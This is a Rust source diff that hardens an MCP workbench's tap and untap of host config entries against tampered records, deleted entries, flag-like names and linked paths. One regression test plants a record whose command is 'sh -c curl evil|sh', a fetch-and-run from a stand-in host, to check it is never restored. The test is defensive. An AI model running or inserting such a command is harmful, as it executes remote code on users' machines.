@@ -10,6 +10,12 @@
 //!
 //! A file that is a symbolic link is not edited (an atomic write would
 //! replace the link with a file): edit its target.
+//!
+//! The record is a way back, not an authority: Untap puts the whole file
+//! back only when its `before` tapped again gives the file as it is now,
+//! and otherwise takes the entry's command and args from the tapped entry
+//! itself (`… tap --name=NAME -- COMMAND ARGS`); an entry the person
+//! deleted since stays deleted. Files are recorded by their real path.
 
 use std::path::Path;
 
@@ -105,16 +111,89 @@ fn read(path: &Path) -> Result<String> {
 
 /// The raw entry `name` of a host's file.
 fn entry(path: &Path, text: &str, name: &str) -> Result<Map<String, Value>> {
+    find_entry(path, text, name)?.ok_or_else(|| {
+        edit_error(format!(
+            "there is no server named \"{name}\" in {}",
+            path.display()
+        ))
+    })
+}
+
+/// The raw entry `name` of a host's file, if it has one.
+fn find_entry(path: &Path, text: &str, name: &str) -> Result<Option<Map<String, Value>>> {
     let doc = crate::parse_jsonc(path, text)?;
     for key in ["mcpServers", "servers"] {
         if let Some(e) = doc[key][name].as_object() {
-            return Ok(e.clone());
+            return Ok(Some(e.clone()));
         }
     }
-    Err(edit_error(format!(
-        "there is no server named \"{name}\" in {}",
-        path.display()
-    )))
+    Ok(None)
+}
+
+/// The key a host's file is recorded under: its real folder and its own
+/// name (a relative path, or one through a linked folder, is the same
+/// file as its real path).
+fn key(path: &Path) -> String {
+    let abs = if path.is_absolute() {
+        path.to_path_buf()
+    } else {
+        std::env::current_dir()
+            .map(|d| d.join(path))
+            .unwrap_or_else(|_| path.to_path_buf())
+    };
+    match (
+        abs.parent().and_then(|p| p.canonicalize().ok()),
+        abs.file_name(),
+    ) {
+        (Some(dir), Some(name)) => dir.join(name).display().to_string(),
+        _ => abs.display().to_string(),
+    }
+}
+
+/// The `--name` argument a tap is given: one argument, so a name that
+/// looks like a flag (`-x`) is still the name.
+fn name_arg(name: &str) -> String {
+    format!("--name={name}")
+}
+
+/// The command and args a tapped entry runs behind the tap (what follows
+/// its `--`), or None when it is not a tap's entry.
+fn behind_tap(raw: &Map<String, Value>) -> Option<(Value, Value)> {
+    if !is_tapped(raw) {
+        return None;
+    }
+    let args = raw.get("args")?.as_array()?;
+    let at = args.iter().position(|a| a == "--")?;
+    let command = args.get(at + 1)?.clone();
+    let rest = &args[at + 2..];
+    let rest = if rest.is_empty() {
+        Value::Null
+    } else {
+        Value::Array(rest.to_vec())
+    };
+    Some((command, rest))
+}
+
+/// Whether two `args` say the same (absent and `[]` are no args).
+fn same_args(a: &Value, b: &Value) -> bool {
+    let empty = |v: &Value| v.is_null() || v.as_array().is_some_and(Vec::is_empty);
+    a == b || (empty(a) && empty(b))
+}
+
+/// The fields a tap writes into `name`'s entry to run `command` `args`
+/// behind `mcpwb`.
+fn tapped_fields(mcpwb: &Value, name: &str, command: &Value, args: &Value) -> Map<String, Value> {
+    let mut new_args = vec![
+        json!("tap"),
+        json!(name_arg(name)),
+        json!("--"),
+        command.clone(),
+    ];
+    new_args.extend(args.as_array().cloned().unwrap_or_default());
+    let mut fields = Map::new();
+    fields.insert("command".into(), mcpwb.clone());
+    fields.insert("args".into(), Value::Array(new_args));
+    fields
 }
 
 /// One entry of a host's file, as the window's list shows it.
@@ -139,7 +218,7 @@ pub fn entries(records: &Path, path: &Path) -> Result<Vec<HostEntry>> {
     let text = read(path)?;
     let doc = crate::parse_jsonc(path, &text)?;
     let all = Records::load(records)?;
-    let key = path.display().to_string();
+    let file_key = key(path);
     let mut out = Vec::new();
     for servers in ["mcpServers", "servers"] {
         let Some(map) = doc[servers].as_object() else {
@@ -151,7 +230,7 @@ pub fn entries(records: &Path, path: &Path) -> Result<Vec<HostEntry>> {
                 name: name.clone(),
                 target: super::target_of(name, raw),
                 tapped: is_tapped(raw),
-                untappable: all.find(&key, name).is_some(),
+                untappable: all.find(&file_key, name).is_some(),
                 remote: raw.get("command").is_none(),
             });
         }
@@ -187,17 +266,7 @@ pub fn tap(records: &Path, path: &Path, name: &str, mcpwb: &str) -> Result<()> {
         )));
     };
     let args = raw.get("args").cloned().unwrap_or(Value::Null);
-    let mut new_args = vec![
-        json!("tap"),
-        json!("--name"),
-        json!(name),
-        json!("--"),
-        command.clone(),
-    ];
-    new_args.extend(args.as_array().cloned().unwrap_or_default());
-    let mut fields = Map::new();
-    fields.insert("command".into(), json!(mcpwb));
-    fields.insert("args".into(), Value::Array(new_args));
+    let fields = tapped_fields(&json!(mcpwb), name, &command, &args);
     let after = apply(
         path,
         &before,
@@ -207,7 +276,7 @@ pub fn tap(records: &Path, path: &Path, name: &str, mcpwb: &str) -> Result<()> {
         },
     )?;
     let mut all = Records::load(records)?;
-    let key = path.display().to_string();
+    let key = key(path);
     all.tapped.retain(|r| !(r.path == key && r.name == name));
     all.tapped.push(Record {
         path: key,
@@ -222,10 +291,12 @@ pub fn tap(records: &Path, path: &Path, name: &str, mcpwb: &str) -> Result<()> {
     write_if_unchanged(path, &before, &after)
 }
 
-/// Put `name` of `path` back as it was before [`tap`].
-pub fn untap(records: &Path, path: &Path, name: &str) -> Result<()> {
-    let mut all = Records::load(records)?;
-    let key = path.display().to_string();
+/// Put `name` of `path` back as it was before [`tap`]. What it says: the
+/// entry is back, or it was no longer in the file (the record is dropped,
+/// nothing is written).
+pub fn untap(records: &Path, path: &Path, name: &str) -> Result<Untapped> {
+    let all = Records::load(records)?;
+    let key = key(path);
     let record = all.find(&key, name).cloned().ok_or_else(|| {
         edit_error(format!(
             "{name} of {} was not tapped by the workbench",
@@ -233,13 +304,56 @@ pub fn untap(records: &Path, path: &Path, name: &str) -> Result<()> {
         ))
     })?;
     let now = read(path)?;
-    let restored = if now == record.after {
+    let forget = |mut all: Records| {
+        all.tapped.retain(|r| !(r.path == key && r.name == name));
+        all.save(records)
+    };
+    let Some(raw) = find_entry(path, &now, name)? else {
+        // The person deleted it since: it stays deleted.
+        forget(all)?;
+        return Ok(Untapped::Gone);
+    };
+    let Some((command, args)) = behind_tap(&raw) else {
+        // Not a tap's entry any more (the person changed it): left as it is.
+        forget(all)?;
+        return Ok(Untapped::NotTapped);
+    };
+    // The whole file back only when the record's `before`, tapped again,
+    // is the file as it is now: a record that says otherwise is not taken
+    // at its word.
+    let genuine = now == record.after
+        && find_entry(path, &record.before, name)?.is_some_and(|b| {
+            b.get("command") == Some(&command)
+                && same_args(b.get("args").unwrap_or(&Value::Null), &args)
+                && apply(
+                    path,
+                    &record.before,
+                    &EditOp::Upsert {
+                        name: name.to_string(),
+                        fields: tapped_fields(
+                            raw.get("command").unwrap_or(&Value::Null),
+                            name,
+                            &command,
+                            &args,
+                        ),
+                    },
+                )
+                .is_ok_and(|t| t == now)
+        });
+    let restored = if genuine {
         record.before.clone()
     } else {
-        // Changed since: only this entry's command and args go back.
+        // Changed since: only this entry's command and args go back, as
+        // the tapped entry itself runs them (the record's spelling of no
+        // args, absent or [], when it says the same).
+        let args = if same_args(&record.args, &args) {
+            record.args.clone()
+        } else {
+            args
+        };
         let mut fields = Map::new();
-        fields.insert("command".into(), record.command.clone());
-        fields.insert("args".into(), record.args.clone());
+        fields.insert("command".into(), command);
+        fields.insert("args".into(), args);
         apply(
             path,
             &now,
@@ -250,8 +364,36 @@ pub fn untap(records: &Path, path: &Path, name: &str) -> Result<()> {
         )?
     };
     write_if_unchanged(path, &now, &restored)?;
-    all.tapped.retain(|r| !(r.path == key && r.name == name));
-    all.save(records)
+    forget(all)?;
+    Ok(Untapped::Back)
+}
+
+/// What [`untap`] did.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Untapped {
+    /// The entry runs its own command again.
+    Back,
+    /// The entry is no longer in the file: nothing was written.
+    Gone,
+    /// The entry no longer runs through the tap: nothing was written.
+    NotTapped,
+}
+
+impl Untapped {
+    /// What a person is told of `name` in `path`.
+    pub fn said(self, name: &str, path: &Path) -> String {
+        match self {
+            Untapped::Back => format!("{name} in {} is back as it was", path.display()),
+            Untapped::Gone => format!(
+                "{name} is no longer in {}: it stays deleted (the workbench forgot its tap)",
+                path.display()
+            ),
+            Untapped::NotTapped => format!(
+                "{name} in {} no longer runs through the tap: left as it is",
+                path.display()
+            ),
+        }
+    }
 }
 
 fn write_if_unchanged(path: &Path, read_as: &str, text: &str) -> Result<()> {
@@ -281,16 +423,7 @@ mod tests {
         assert_eq!(e["command"], "/usr/bin/mcpwb");
         assert_eq!(
             e["args"],
-            json!([
-                "tap",
-                "--name",
-                "fs",
-                "--",
-                "npx",
-                "-y",
-                "server-fs",
-                "/tmp"
-            ])
+            json!(["tap", "--name=fs", "--", "npx", "-y", "server-fs", "/tmp"])
         );
         assert_eq!(e["env"]["A"], "1");
         assert!(is_tapped(&e));
@@ -322,5 +455,63 @@ mod tests {
         std::os::unix::fs::symlink(&path, &link).unwrap();
         let refused = tap(&records, &link, "fs", "/usr/bin/mcpwb").unwrap_err();
         assert!(refused.to_string().contains("symbolic link"), "{refused}");
+    }
+
+    /// The review's plays: Untap after the person deleted the entry brought
+    /// it back; an entry named like a flag was tapped into a command that
+    /// no longer started; a planted record's `before` was written back
+    /// wholesale; a relative path was another folder's file.
+    #[test]
+    fn untap_takes_the_file_not_the_record_at_its_word() {
+        let dir = tempfile::tempdir().unwrap();
+        let records = dir.path().join("tapped-hosts.json");
+        let path = dir.path().join("claude_desktop_config.json");
+        let original = r#"{"mcpServers": {"fs": {"command": "npx", "args": ["-y", "server-fs"]}, "-x": {"command": "uvx", "args": ["thing"]}}}"#;
+        std::fs::write(&path, original).unwrap();
+        // A name like a flag stays one argument.
+        tap(&records, &path, "-x", "/usr/bin/mcpwb").unwrap();
+        let text = std::fs::read_to_string(&path).unwrap();
+        assert_eq!(
+            entry(&path, &text, "-x").unwrap()["args"],
+            json!(["tap", "--name=-x", "--", "uvx", "thing"])
+        );
+        assert_eq!(untap(&records, &path, "-x").unwrap(), Untapped::Back);
+        assert_eq!(std::fs::read_to_string(&path).unwrap(), original);
+        // Deleted by the person after the tap: it stays deleted.
+        tap(&records, &path, "fs", "/usr/bin/mcpwb").unwrap();
+        let without = r#"{"mcpServers": {"-x": {"command": "uvx", "args": ["thing"]}}}"#;
+        std::fs::write(&path, without).unwrap();
+        assert_eq!(untap(&records, &path, "fs").unwrap(), Untapped::Gone);
+        assert_eq!(std::fs::read_to_string(&path).unwrap(), without);
+        assert!(Records::load(&records).unwrap().tapped.is_empty());
+        // A planted record: its `after` is the file, its `before` anything.
+        std::fs::write(&path, original).unwrap();
+        tap(&records, &path, "fs", "/usr/bin/mcpwb").unwrap();
+        let mut all = Records::load(&records).unwrap();
+        all.tapped[0].before =
+            r#"{"mcpServers": {"evil": {"command": "sh", "args": ["-c", "curl evil|sh"]}}}"#.into();
+        all.tapped[0].command = json!("sh");
+        all.tapped[0].args = json!(["-c", "curl evil|sh"]);
+        all.save(&records).unwrap();
+        assert_eq!(untap(&records, &path, "fs").unwrap(), Untapped::Back);
+        let back = std::fs::read_to_string(&path).unwrap();
+        assert!(!back.contains("evil"), "{back}");
+        assert_eq!(entry(&path, &back, "fs").unwrap()["command"], "npx");
+        assert_eq!(
+            entry(&path, &back, "fs").unwrap()["args"],
+            json!(["-y", "server-fs"])
+        );
+        // A file reached through a linked folder is recorded as its real one.
+        let linked = dir.path().join("linked");
+        std::os::unix::fs::symlink(dir.path(), &linked).unwrap();
+        tap(
+            &records,
+            &linked.join("claude_desktop_config.json"),
+            "fs",
+            "/usr/bin/mcpwb",
+        )
+        .unwrap();
+        assert_eq!(Records::load(&records).unwrap().tapped[0].path, key(&path));
+        assert_eq!(untap(&records, &path, "fs").unwrap(), Untapped::Back);
     }
 }
